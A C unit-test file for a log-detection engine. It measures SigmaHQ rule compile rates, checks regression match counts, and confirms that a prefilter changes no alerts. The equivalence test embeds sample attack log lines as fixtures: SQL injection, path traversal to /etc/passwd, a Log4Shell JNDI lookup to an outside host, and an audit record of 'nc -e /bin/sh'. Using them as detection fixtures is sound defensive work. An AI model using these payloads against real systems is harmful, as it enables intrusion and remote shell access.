/* Measurement against SigmaHQ (CANH_CORPORA/sigma): prints the numbers that
 * docs/benchmarks-sigma.md quotes and fails when they drop below floors set
 * slightly under what the engine achieves, so a regression shows up.
 *
 *  1. Compile share: every rule of rules/ and rules-emerging-threats/,
 *     grouped by product (the directory under rules/; emerging-threats rules
 *     by their logsource), as compiled fully / partially / failed.
 *  2. Regression data: for each case (an info.yml naming the rule and the
 *     expected match count, and the JSON events next to it), the events are
 *     decoded and run through the whole rule set; the alerts of the named
 *     rule are counted and compared with the expected count. A case without
 *     match_count passes when the rule fires at least once.
 *
 * Skipped when the corpus is not there. */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "canh/decode.h"
#include "canh/detect.h"
#include "canh/ingest.h"
#include "detect_sigma_int.h"

#define SIGMA CANH_CORPORA "/sigma"

/* Floors: a little under the measured values (docs/benchmarks-sigma.md). */
#define FLOOR_WINDOWS 99.5    /* measured 99.93 (2728/2730) */
#define FLOOR_LINUX 99.0      /* measured 100 (244) */
#define FLOOR_WEB 99.0        /* measured 100 (144) */
#define FLOOR_NETWORK 98.0    /* measured 100 (61) */
#define FLOOR_REGRESSION 97.0 /* measured 98.02 (198/202) */

static canh_rules_t *rules;

static bool exists(const char *p)
{
    struct stat sb;
    return stat(p, &sb) == 0;
}

static int setup(void **st)
{
    (void)st;
    if (!exists(SIGMA "/rules"))
        return 0;
    const char *paths[] = {SIGMA "/rules", SIGMA "/rules-emerging-threats"};
    canh_errbuf_t eb = {{0}};
    size_t ok = 0, bad = 0;
    canh_rules_opts_t o = {NULL, true};
    if (canh_rules_compile(paths, 2, &o, NULL, NULL, &rules, &ok, &bad, &eb) != CANH_OK) {
        fprintf(stderr, "compile: %s\n", eb.msg);
        return -1;
    }
    return 0;
}

static int teardown(void **st)
{
    (void)st;
    canh_rules_destroy(rules);
    return 0;
}

/* ---- 1. compile share ----------------------------------------------------------------- */

#define MAX_GROUPS 16
typedef struct group {
    char name[32];
    unsigned ok, partial, failed;
} group_t;

static group_t groups[MAX_GROUPS];
static size_t ngroups;

static group_t *group(const char *name)
{
    for (size_t i = 0; i < ngroups; i++)
        if (strcmp(groups[i].name, name) == 0)
            return &groups[i];
    assert_true(ngroups < MAX_GROUPS);
    snprintf(groups[ngroups].name, sizeof groups[ngroups].name, "%s", name);
    return &groups[ngroups++];
}

static bool eq(const char *a, const char *b)
{
    return a && strcmp(a, b) == 0;
}

/* Product group of an emerging-threats rule, from its logsource (or its
 * file name when it failed before the logsource was read). */
static const char *et_group(const canh_rules_t *r, const sg_rule_t *ru)
{
    if (ru->logsrc != SG_NONE) {
        const sg_logsrc_t *ls = SG_AT(r->logsrcs, sg_logsrc_t, ru->logsrc);
        if (eq(ls->product, "windows"))
            return "windows";
        if (eq(ls->product, "linux"))
            return "linux";
        if (eq(ls->product, "macos"))
            return "macos";
        if (eq(ls->category, "webserver") || eq(ls->category, "proxy"))
            return "web";
        if (eq(ls->product, "zeek") || eq(ls->category, "dns") || eq(ls->category, "firewall") ||
            eq(ls->product, "cisco") || eq(ls->product, "fortigate"))
            return "network";
        return "other";
    }
    const char *base = strrchr(ru->file, '/');
    base = base ? base + 1 : ru->file;
    if (strstr(base, "_win_"))
        return "windows";
    if (strstr(base, "lnx_") || strstr(base, "_linux_"))
        return "linux";
    if (strncmp(base, "web_", 4) == 0 || strncmp(base, "proxy_", 6) == 0)
        return "web";
    return "other";
}

static void test_compile_share(void **st)
{
    (void)st;
    if (!rules)
        skip();
    const canh_rules_t *r = rules;
    size_t tot_ok = 0, tot_p = 0, tot_f = 0;
    for (uint32_t i = 0; i < r->rules.n; i++) {
        const sg_rule_t *ru = SG_AT(r->rules, sg_rule_t, i);
        if (ru->pseudo && ru->st != CANH_RULE_FAILED)
            continue;
        char name[32];
        const char *p = strstr(ru->file, "/sigma/rules/");
        if (p) {
            p += strlen("/sigma/rules/");
            size_t n = strcspn(p, "/");
            snprintf(name, sizeof name, "%.*s", (int)(n < 31 ? n : 31), p);
        } else {
            snprintf(name, sizeof name, "et-%s", et_group(r, ru));
        }
        group_t *g = group(name);
        if (ru->st == CANH_RULE_OK)
            g->ok++, tot_ok++;
        else if (ru->st == CANH_RULE_PARTIAL)
            g->partial++, tot_p++;
        else
            g->failed++, tot_f++;
    }
    printf("\nSigma compile share (SigmaHQ rules/ and rules-emerging-threats/):\n");
    printf("%-16s %6s %6s %8s %7s %9s\n", "product", "rules", "full", "partial", "failed",
           "full %");
    for (size_t i = 0; i < ngroups; i++) {
        group_t *g = &groups[i];
        unsigned n = g->ok + g->partial + g->failed;
        printf("%-16s %6u %6u %8u %7u %8.1f%%\n", g->name, n, g->ok, g->partial, g->failed,
               n ? 100.0 * g->ok / n : 0.0);
    }
    size_t all = tot_ok + tot_p + tot_f;
    printf("%-16s %6zu %6zu %8zu %7zu %8.1f%%\n", "all", all, tot_ok, tot_p, tot_f,
           all ? 100.0 * (double)tot_ok / (double)all : 0.0);

    /* The products the issue sets a target for: rules/<dir> plus the
     * emerging-threats rules of the same product. */
    static const struct {
        const char *name;
        double floor;
    } targets[] = {{"windows", FLOOR_WINDOWS},
                   {"linux", FLOOR_LINUX},
                   {"web", FLOOR_WEB},
                   {"network", FLOOR_NETWORK}};
    for (size_t t = 0; t < 4; t++) {
        unsigned ok = 0, n = 0;
        for (size_t i = 0; i < ngroups; i++) {
            const char *gn = groups[i].name;
            if (strcmp(gn, targets[t].name) == 0 ||
                (strncmp(gn, "et-", 3) == 0 && strcmp(gn + 3, targets[t].name) == 0)) {
                ok += groups[i].ok;
                n += groups[i].ok + groups[i].partial + groups[i].failed;
            }
        }
        double share = n ? 100.0 * ok / n : 0.0;
        printf("target %-9s %5u/%-5u %6.2f%% fully compiled (floor %.1f%%)\n", targets[t].name, ok,
               n, share, targets[t].floor);
        if (n && share < targets[t].floor)
            fail_msg("%s: %.2f%% of rules compile fully, below the floor of %.1f%%",
                     targets[t].name, share, targets[t].floor);
    }
}

/* ---- 2. regression data ------------------------------------------------------------------ */

typedef struct rcase {
    char id[80];
    char path[600]; /* events file (json, or raw lines) */
    long expect;    /* -1: not given */
} rcase_t;

typedef struct stats {
    unsigned cases, exact, missing_rule;
    canh_decode_t *dec;
    canh_detector_t *det;
    canh_event_t *ev;
} stats_t;

static const char *target_id;
static long hits;

static int on_alert(void *ud, const canh_alert_t *a, const canh_event_t *e)
{
    (void)ud;
    (void)e;
    if (strcmp(a->rule_id, target_id) == 0)
        hits++;
    return 0;
}

/* info.yml: rule_metadata[0].id, regression_tests_info[0].match_count and
 * .path (a commented-out block is read too: SigmaHQ keeps raw cases so). */
static bool read_info(const char *dir, rcase_t *c)
{
    char p[700], line[1024];
    snprintf(p, sizeof p, "%s/info.yml", dir);
    FILE *f = fopen(p, "r");
    if (!f)
        return false;
    bool in_meta = false;
    c->id[0] = c->path[0] = '\0';
    c->expect = -1;
    while (fgets(line, sizeof line, f)) {
        char *s = line;
        while (*s == '#' || *s == ' ')
            s++;
        s[strcspn(s, "\r\n")] = '\0';
        if (strncmp(s, "rule_metadata:", 14) == 0)
            in_meta = true;
        else if (strncmp(s, "regression_tests_info:", 22) == 0)
            in_meta = false;
        else if (in_meta && !c->id[0] && strncmp(s, "- id: ", 6) == 0)
            snprintf(c->id, sizeof c->id, "%s", s + 6);
        else if (strncmp(s, "match_count: ", 13) == 0)
            c->expect = strtol(s + 13, NULL, 10);
        else if (strncmp(s, "path: ", 6) == 0 && !c->path[0]) {
            /* regression_data/...evtx -> the JSON export next to it */
            const char *rel = s + 6;
            snprintf(c->path, sizeof c->path, "%s/%s", SIGMA, rel);
            size_t n = strlen(c->path);
            if (n > 5 && strcmp(c->path + n - 5, ".evtx") == 0)
                snprintf(c->path + n - 5, sizeof c->path - (n - 5), ".json");
        }
    }
    fclose(f);
    return c->id[0] && c->path[0];
}

static void run_case(stats_t *S, const char *dir)
{
    rcase_t c;
    if (!read_info(dir, &c))
        return;
    S->cases++;
    uint32_t idx = sg_rule_find(rules, c.id);
    const char *why = NULL;
    char buf[300];
    if (idx == SG_NONE) {
        S->missing_rule++;
        printf("  MISS %s: rule %s is not in the corpus (%s)\n", dir + strlen(SIGMA) + 1, c.id,
               strstr(dir, "threat-hunting") ? "rules-threat-hunting is not shipped" : "?");
        return;
    }
    const sg_rule_t *ru = sg_rule(rules, idx);
    canh_records_t *rs;
    canh_errbuf_t eb;
    if (canh_records_open(c.path, CANH_MAX_RECORD, &rs, &eb) != CANH_OK) {
        printf("  FAIL %s: %s\n", dir + strlen(SIGMA) + 1, eb.msg);
        return;
    }
    canh_str_t rec;
    uint64_t line;
    bool tr;
    long events = 0, generic = 0;
    target_id = c.id;
    hits = 0;
    while (canh_records_next(rs, &rec, &line, &tr, &eb) == CANH_OK) {
        canh_decode_record(S->dec, rec.p, rec.n, S->ev);
        events++;
        if (S->ev->flags & CANH_EVF_GENERIC)
            generic++;
        canh_detector_run(S->det, S->ev, on_alert, NULL);
    }
    canh_records_close(rs);
    bool ok = c.expect < 0 ? hits >= 1 : hits == c.expect;
    if (ok) {
        S->exact++;
        return;
    }
    if (ru->st == CANH_RULE_FAILED) {
        snprintf(buf, sizeof buf, "rule failed to compile: %s", ru->reason);
        why = buf;
    } else if (generic) {
        snprintf(buf, sizeof buf, "%ld of %ld events not decoded", generic, events);
        why = buf;
    }
    printf("  FAIL %s: %ld alerts, expected %ld (%ld events)%s%s\n", dir + strlen(SIGMA) + 1, hits,
           c.expect, events, why ? ": " : "", why ? why : "");
}

static void walk(stats_t *S, const char *dir, int depth)
{
    char p[700];
    snprintf(p, sizeof p, "%s/info.yml", dir);
    if (exists(p)) {
        run_case(S, dir);
        return;
    }
    if (depth > 12)
        return;
    struct dirent **ents;
    int n = scandir(dir, &ents, NULL, alphasort);
    for (int i = 0; i < n; i++) {
        if (ents[i]->d_name[0] != '.' && ents[i]->d_type == DT_DIR) {
            snprintf(p, sizeof p, "%s/%s", dir, ents[i]->d_name);
            walk(S, p, depth + 1);
        }
        free(ents[i]);
    }
    if (n >= 0)
        free(ents);
}

static void test_regression(void **st)
{
    (void)st;
    if (!rules || !exists(SIGMA "/regression_data"))
        skip();
    stats_t S = {0};
    canh_errbuf_t eb;
    canh_decode_opts_t o = {.tref = {INT64_C(1767225600) * CANH_NS_PER_SEC, 0}, .type = NULL};
    assert_int_equal(canh_decode_create(&o, &S.dec, &eb), CANH_OK);
    assert_int_equal(canh_detector_create(rules, &S.det), CANH_OK);
    S.ev = canh_event_create();
    printf("\nSigma regression data (SigmaHQ regression_data/), failures:\n");
    walk(&S, SIGMA "/regression_data", 0);
    unsigned runnable = S.cases - S.missing_rule;
    double share = runnable ? 100.0 * S.exact / runnable : 0.0;
    printf("regression cases: %u, rule not in corpus: %u, exact: %u/%u = %.2f%% (floor %.1f%%)\n",
           S.cases, S.missing_rule, S.exact, runnable, share, FLOOR_REGRESSION);
    canh_event_destroy(S.ev);
    canh_detector_destroy(S.det);
    canh_decode_destroy(S.dec);
    if (share < FLOOR_REGRESSION)
        fail_msg("regression data: %.2f%% exact, below the floor of %.1f%%", share,
                 FLOOR_REGRESSION);
}

/* ---- 3. the prefilter changes nothing --------------------------------------------------- */
/* The same rules compiled a second time and stripped of their prefilter
 * (every literal tested directly, every rule evaluated for every event of
 * its route) must raise exactly the same alerts, in the same order, on
 * every event: the regression events, OSSEC's sample logs, the test
 * fixtures and attack lines written for this test. */

static canh_rules_t *direct;

static void strip_prefilter(canh_rules_t *r)
{
    for (uint32_t i = 0; i < r->matchers.n; i++) {
        sg_matcher_t *m = SG_AT(r->matchers, sg_matcher_t, i);
        m->db = SG_NONE;
        m->anchor = 0;
    }
    for (uint32_t i = 0; i < r->rules.n; i++)
        SG_AT(r->rules, sg_rule_t, i)->has_anchor = 0;
    for (uint32_t i = 0; i < r->routes.n; i++) {
        sg_route_t *rt = SG_AT(r->routes, sg_route_t, i);
        memcpy(rt->always, rt->rules, rt->nrules * sizeof *rt->rules);
        rt->nalways = rt->nrules;
        rt->nadb = 0;
    }
}

typedef struct eqv {
    canh_decode_t *dec;
    canh_event_t *ev;
    canh_detector_t *fast, *slow;
    unsigned long events, alerts, mismatches;
} eqv_t;

typedef struct idlist {
    char s[2048];
    unsigned n;
} idlist_t;

static int add_id(void *ud, const canh_alert_t *a, const canh_event_t *e)
{
    idlist_t *l = ud;
    (void)e;
    size_t k = strlen(l->s);
    snprintf(l->s + k, sizeof l->s - k, "%s ", a->rule_id);
    l->n++;
    return 0;
}

static void eqv_record(eqv_t *E, const char *p, size_t n, const char *where)
{
    idlist_t a = {{0}, 0}, b = {{0}, 0};
    canh_decode_record(E->dec, p, n, E->ev);
    canh_detector_run(E->fast, E->ev, add_id, &a);
    canh_detector_run(E->slow, E->ev, add_id, &b);
    E->events++;
    E->alerts += a.n;
    if (strcmp(a.s, b.s) != 0) {
        if (E->mismatches++ < 10)
            printf("  MISMATCH %s: prefilter [%s] direct [%s]\n", where, a.s, b.s);
    }
}

static void eqv_file(eqv_t *E, const char *path)
{
    canh_records_t *rs;
    canh_errbuf_t eb;
    if (canh_records_open(path, CANH_MAX_RECORD, &rs, &eb) != CANH_OK)
        return;
    canh_str_t rec;
    uint64_t line;
    bool tr;
    while (canh_records_next(rs, &rec, &line, &tr, &eb) == CANH_OK)
        eqv_record(E, rec.p, rec.n, path);
    canh_records_close(rs);
}

static void eqv_walk(eqv_t *E, const char *dir, int depth)
{
    struct dirent **ents;
    int n = scandir(dir, &ents, NULL, alphasort);
    for (int i = 0; i < n; i++) {
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", dir, ents[i]->d_name);
        const char *nm = ents[i]->d_name;
        if (nm[0] != '.') {
            if (ents[i]->d_type == DT_DIR && depth < 12)
                eqv_walk(E, p, depth + 1);
            else if (ents[i]->d_type == DT_REG && !strstr(nm, ".evtx") && !strstr(nm, ".gz") &&
                     strcmp(nm, "info.yml") != 0 && !strstr(nm, ".xlsx"))
                eqv_file(E, p);
        }
        free(ents[i]);
    }
    if (n >= 0)
        free(ents);
}

static void test_prefilter_equivalence(void **st)
{
    (void)st;
    if (!rules)
        skip();
    const char *paths[] = {SIGMA "/rules", SIGMA "/rules-emerging-threats"};
    canh_errbuf_t eb = {{0}};
    size_t ok = 0, bad = 0;
    canh_rules_opts_t o = {NULL, true};
    assert_int_equal(canh_rules_compile(paths, 2, &o, NULL, NULL, &direct, &ok, &bad, &eb),
                     CANH_OK);
    strip_prefilter(direct);
    eqv_t E = {0};
    canh_decode_opts_t dopt = {.tref = {INT64_C(1767225600) * CANH_NS_PER_SEC, 0}, .type = NULL};
    assert_int_equal(canh_decode_create(&dopt, &E.dec, &eb), CANH_OK);
    E.ev = canh_event_create();
    assert_int_equal(canh_detector_create(rules, &E.fast), CANH_OK);
    assert_int_equal(canh_detector_create(direct, &E.slow), CANH_OK);
    eqv_walk(&E, SIGMA "/regression_data", 0);
    eqv_walk(&E, CANH_CORPORA "/ossec/etc/rules/log-entries", 0);
    eqv_walk(&E, CANH_FIXTURES, 0);
    /* Attack lines: every web rule family, sshd, auditd. */
    static const char *lines[] = {
        "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"GET /index.php?id=1%27%20UNION%20SELECT%20"
        "password%20FROM%20users-- HTTP/1.1\" 200 5 \"-\" \"sqlmap/1.7.2#stable\"",
        "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd "
        "HTTP/1.1\" 400 5 \"-\" \"curl/8.4.0\"",
        "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"GET /?x=${jndi:ldap://1.2.3.4/a} "
        "HTTP/1.1\" "
        "200 5 \"${jndi:ldap://1.2.3.4/a}\" \"${jndi:ldap://1.2.3.4/a}\"",
        "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"POST /wp-admin/admin-ajax.php HTTP/1.1\" "
        "200 5 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine)\"",
        "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"GET /.git/config HTTP/1.1\" 404 5 \"-\" "
        "\"Nuclei - Open-source project\"",
        "203.0.113.7 - - [21/Nov/2026:00:00:00 +0700] \"GET /vpns/portal/scripts/newbm.pl "
        "HTTP/1.1\" "
        "200 5 \"-\" \"python-requests/2.31.0\"",
        "Nov 21 00:00:00 web02 sshd[1]: error: buffer_get_ret: trying to get more bytes 4 than in "
        "buffer 0",
        "Nov 21 00:00:00 web02 sshd[1]: fatal: Local: crc32 compensation attack: network attack "
        "detected",
        "Nov 21 00:00:00 web02 sshd[1]: Failed password for root from 10.1.2.3 port 22 ssh2",
        "Nov 21 00:00:00 web02 kernel: [ 1.0] Accepted password for attacker from 1.2.3.4",
        "type=EXECVE msg=audit(1700000000.000:100): argc=3 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\"",
        "type=SYSCALL msg=audit(1700000000.000:101): arch=c000003e syscall=59 success=yes exit=0 "
        "a0=55 a1=66 ppid=1 pid=2 auid=0 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\" "
        "key=\"susp_activity\"",
    };
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++)
        eqv_record(&E, lines[i], strlen(lines[i]), "attack lines");
    printf("\nprefilter equivalence: %lu events, %lu alerts, %lu mismatches\n", E.events, E.alerts,
           E.mismatches);
    canh_detector_destroy(E.fast);
    canh_detector_destroy(E.slow);
    canh_event_destroy(E.ev);
    canh_decode_destroy(E.dec);
    canh_rules_destroy(direct);
    direct = NULL;
    assert_true(E.events > 500);
    assert_int_equal(E.mismatches, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_compile_share),
        cmocka_unit_test(test_regression),
        cmocka_unit_test(test_prefilter_equivalence),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
